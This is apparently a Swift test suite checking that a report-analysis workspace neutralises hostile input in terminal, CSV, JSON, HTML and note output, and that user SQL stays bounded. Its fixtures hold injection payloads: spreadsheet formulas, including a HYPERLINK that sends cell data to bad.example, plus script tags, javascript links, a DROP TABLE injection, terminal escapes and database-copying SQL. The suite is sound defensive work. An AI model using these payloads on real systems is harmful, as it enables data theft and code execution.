import AssessmentModel
import Briefing
import Foundation
import GRDB
import NoteChecking
import NoteText
import Presentation
import SourceText
import Testing
import TextAnalysis

@testable import Workspace

/// What a report holds must never act: on a terminal, in a spreadsheet, in a browser, in a note, or on the
/// library.
@Suite struct HostileReportTests {
    /// A report in which every place that text comes from is hostile.
    private static let report = """
        # Hostileborough\u{202E}\u{9B}31m: local authority assessment

        Published 3 March 2026

        ## Assessing needs

        Score: 2

        Key findings for this quality statement

        ### =HYPERLINK("http://bad.example/?"&A1,"click") \u{9B}2J

        =cmd|' /C calc'!A0 was said by carers, who waited 90 days for <script>alert(1)</script> a visit.

        +1+1 carers told us that ![x](http://bad.example/p.png) reviews came late; see http://bad.example/a and www.bad.example.

        @SUM(1+1)*cmd was not good: [click](javascript:alert(1)) <img src=x onerror=alert(1)> mailto:a@bad.example &lt;b&gt;.

        Carers \u{9B}31m said \u{2066}that\u{2069} staff\u{E0041}\u{E0042}\u{E007F} were\u{61C} late. '); DROP TABLE finding; --

        """

    private static func library() throws -> SampleLibrary {
        let home = try SampleLibrary(isEmpty: true)
        try FileManager.default.createDirectory(
            atPath: home.folder + "/in", withIntermediateDirectories: true)
        // The file's name is hostile, too.
        let file = home.folder + "/in/=1+1\u{1B}[31m<b>.md"
        try Data(report.utf8).write(to: URL(fileURLWithPath: file))
        let page = """
            <!DOCTYPE html><html><head><title>Sinisterton: local authority assessment</title></head><body>
            <h1>Sinisterton: local authority assessment</h1><p>Published 3 March 2026</p><h2>Safeguarding</h2><p>Score: 2</p><p>Key findings for this quality statement</p>
            <h3>=1+1&#27;[2J&#x202e;</h3><p>Carers &#x1b;]0;owned&#7; told us that reviews &#x9b;31m came 12 days late &#x2066;on&#0; average.</p>
            </body></html>
            """
        try Data(page.utf8).write(to: URL(fileURLWithPath: home.folder + "/in/page.html"))
        let read = try home.workspace.importFiles([home.folder + "/in"])
        #expect(read.files.map(\.outcome) == [.imported, .imported])
        #expect(read.findings >= 5)
        return home
    }

    /// No character that steers a terminal or turns text around.
    private static func steers(_ text: String) -> Bool {
        text.unicodeScalars.contains { scalar in
            switch scalar.value {
            case 0x0A: false
            case 0...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069, 0x200E, 0x200F, 0x61C,
                0xE0000...0xE0FFF:
                true
            default: false
            }
        }
    }

    @Test func nothingInAReportActs() throws {
        let home = try Self.library()
        let questions = [
            "findings show authority, heading, text, id", "documents", "remarks", "sentences show text",
            "authorities where read is yes",
            "indicators show measure, value_text, source",
        ]
        for question in questions {
            let table = try home.workspace.answer(question).table
            #expect(!table.rows.isEmpty || question.hasPrefix("indicators"), "\(question)")
            for format in OutputFormat.all where !["json", "jsonl"].contains(format.name) {
                let text = format.render(table, page: .piped).text
                // A CSV keeps line ends as RFC 4180 has them.
                let shown =
                    format.name == "csv" || format.name == "tsv"
                    ? text.replacingOccurrences(of: "\r\n", with: "\n") : text
                #expect(
                    !Self.steers(shown.replacingOccurrences(of: "\t", with: " ")),
                    "\(format.name) of \(question)")
            }
            let csv = try #require(OutputFormat.named("csv")).render(table, page: .piped).text
            for cell in csv.split(whereSeparator: { $0 == "," || $0.isNewline }) {
                #expect(!"=+@".contains(cell.drop { $0 == "\"" }.first ?? " "), "a formula: \(cell)")
            }
            let json = try #require(OutputFormat.named("json")).render(table, page: .piped).text
            #expect(
                !json.unicodeScalars.contains { $0.value < 0x20 && $0.value != 0x0A || $0.value == 0x1B },
                "JSON escapes controls")
        }
        #expect(try home.workspace.checkLibrary() == [])
    }

    /// A library of somebody else's may hold what no report brings in.
    @Test func whatIsPublishedFromALibraryOfOthersHidesNothing() throws {
        let home = try Self.library()
        let hidden = "\u{1B}[2J\u{8}\u{9B}31m\u{202E}\u{E0041}\u{FEFF}\u{61C}"
        try DatabaseQueue(path: home.folder + "/library.sqlite").write { db in
            try db.execute(
                sql: "UPDATE finding SET text = ? || text, heading = ? || heading",
                arguments: [hidden, hidden])
            try db.execute(
                sql: "UPDATE authority SET name = name || ?, short = short || ?", arguments: [hidden, hidden])
        }
        let workspace = Workspace(options: home.workspace.options)
        let page = String(
            decoding: try workspace.publish(
                PublishOrder(
                    query: "assessments", title: "A\(hidden)", date: "2026-12-01", isScoresOnly: false)
            ).bytes, as: UTF8.self)
        let title = try #require(page.firstMatch(of: #/<title>(?<words>[^<]*)<\/title>/#)?.output.words)
        #expect(!Self.steers(String(title)), "\(title)")
        let facts = try #require(
            page.components(separatedBy: "id=\"facts\"").last?.components(separatedBy: "</script>").first)
        let packed = page.matches(of: #/data-report="[^"]*">(?<words>[^<]*)</#)
        #expect(packed.count >= 2)
        let texts =
            try [facts]
            + packed.map { part in
                let bytes = try #require(Data(base64Encoded: String(part.output.words)))
                return try #require(Packing.inflatedText(Array(bytes)))
            }
        for text in texts {
            #expect(!Self.steers(text) && !text.unicodeScalars.contains("\u{FEFF}"))
            for escape in ["\\u001", "\\u000", "\\u009", "\\b"] { #expect(!text.contains(escape)) }
        }
        for format in ["json", "jsonl"] {
            let rows = try workspace.answer("findings show authority, heading, text").table
            let text = try #require(OutputFormat.named(format)).render(rows, page: .piped).text
            #expect(
                !Self.steers(text) && text.contains("\\udb40\\udc41"), "nothing is lost, and nothing steers")
        }
    }

    @Test func controlBytesAreNoText() throws {
        let home = try SampleLibrary(isEmpty: true)
        try FileManager.default.createDirectory(atPath: home.folder, withIntermediateDirectories: true)
        try Data("# A: local authority assessment\u{1B}[2J\n".utf8).write(
            to: URL(fileURLWithPath: home.folder + "/a.md"))
        let read = try home.workspace.importFiles([home.folder + "/a.md"])
        #expect(read.files.map(\.outcome) == [.failed(reason: "not text: a control byte at offset 31")])
    }

    @Test func aNoteQuotesHostileTextAndNothingOfItActs() throws {
        let home = try Self.library()
        let slug = try #require(try home.rows("authorities where read is yes show slug").first)
        let order = BriefingOrder(template: "councillor-note", parameters: ["authority": slug], isDraft: true)
        let note = try home.workspace.compose(order).text
        #expect(!Self.steers(note))
        // What a mark escapes is text: whatever acts has to be there without it. Addresses are what readers
        // make links of by themselves.
        let unescaped = NoteTrailer.strip(note).replacing(/\\./, with: "")
        for active in [
            "<script", "<img", "](javascript:", "](http://bad", "![x](", "http://bad", "www.bad", "mailto:a",
        ] {
            #expect(!unescaped.contains(active), "\(active)")
        }
    }

    @Test(arguments: ["http://a.example", "HTTPS://a.example", "www.a.example", "mailto:x", "ftp://a"])
    func aBareAddressIsNoLink(_ address: String) {
        for escape in [{ MarkdownText.escaped($0) }, { MarkdownText.escaped($0, opensLine: false) }]
            as [(String) -> String]
        {
            let escaped = escape("see \(address) now")
            #expect(escaped.contains("\\:") || escaped.contains("\\."))
            #expect(escaped.replacingOccurrences(of: "\\", with: "") == "see \(address) now")
        }
    }

    @Test(arguments: ["at 9:30 am", "Note: this", "two: three", "score 2:1"])
    func otherColonsStayAsTheyAre(_ text: String) { #expect(MarkdownText.escaped(text) == text) }

    /// A reader's own SELECT ends within bounds, whatever it asks for.
    @Test(arguments: [
        ("SELECT length(zeroblob(1000000000))", "one value would be larger than 16 MB"),
        ("SELECT hex(randomblob(16000000))", "one value would be larger than 16 MB"),
        (
            "WITH RECURSIVE c(x) AS (SELECT 'x' UNION ALL SELECT x || x FROM c) SELECT max(length(x)) FROM c",
            "one value would be larger"
        ),
        (
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c",
            "one question may take 1 second"
        ),
        (
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c",
            "rows; say LIMIT"
        ),
        ("PRAGMA journal_mode", "only SELECT"), ("PRAGMA table_info(finding)", "only SELECT"),
        ("SELECT load_extension('x')", "sql:"),
        ("VACUUM INTO '/tmp/assay-stolen.sqlite'", "sql:"),
        ("ATTACH '/tmp/assay-stolen.sqlite' AS x", "only SELECT"),
        ("CREATE TEMP TABLE x AS SELECT 1", "only SELECT"), ("SAVEPOINT x", "sql:"),
        ("SELECT 1; SELECT 2", "sql:"),
        (String(repeating: "(", count: 17_000), "longer than 16 kB"),
    ])
    func sqlIsBounded(_ sql: String, _ said: String) throws {
        let samples = try SampleLibrary.shared()
        let workspace = Workspace(options: samples.workspace.options)
        workspace.timeoutSeconds = sql.contains("count(*)") ? 1 : 20
        let error = #expect(throws: WorldError.self) { try workspace.sql(sql) }
        #expect(error?.description.contains(said) == true, "\(error?.description ?? "-")")
        #expect(!FileManager.default.fileExists(atPath: "/tmp/assay-stolen.sqlite"))
    }
}
